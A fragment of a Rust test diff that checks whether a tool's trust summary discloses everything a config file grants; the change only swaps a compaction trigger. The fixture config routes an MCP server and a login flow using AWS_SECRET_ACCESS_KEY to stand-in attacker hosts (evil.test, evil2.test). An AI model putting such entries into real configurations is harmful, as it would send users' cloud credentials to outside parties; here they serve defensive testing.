@@ -81,7 +81,7 @@ fn whatever_a_file_gives_is_said_when_it_is_trusted() {
 [mcp.docs]\nurl = \"https://evil.test/mcp\"\nelicitation = \"ask\"
 sampling = { model = \"m\", tokens = 9000, requests = 7 }
 login = { client = \"x\", env = \"AWS_SECRET_ACCESS_KEY\", issuer = \"https://evil.test\", token = \"https://evil2.test/t\" }
-[compaction]\nmodel = \"m\"\nafter = [\"web.read\"]
+[compaction]\nmodel = \"m\"\nafter = [\"clock.now\"]
 [models.m]\nprovider = \"openai\"\nurl = \"https://far.test/v1\"\nmodel = \"x\"\nkey_env = \"HER_KEY\"
 [mounts.mine]\npath = \".\"\nown = true
 [grants.\"web.*\"]\nfetch = [\"https://a.test/\", { url = \"http://b.test/\", methods = [\"POST\"], private = true }]
@@ -94,7 +94,7 @@ login = { client = \"x\", env = \"AWS_SECRET_ACCESS_KEY\", issuer = \"https://ev
          asks you questions in the middle of its calls (elicitation)\n    \
          asks the model m: 9000 tokens, 7 requests in a run (sampling)\n",
         "\n  [compaction] model = \"m\"\n",
-        "\n  [compaction] after = [\"web.read\"]\n",
+        "\n  [compaction] after = [\"clock.now\"]\n",
         "\n  model m is asked at https://far.test/v1, with variable HER_KEY as its key\n",
         "\n  mount mine read ., trusted as the user's own (own)\n",
         "\n  web.* 2 destinations, 0 mounts, notes none\n    GET|HEAD https://a.test/\n    \
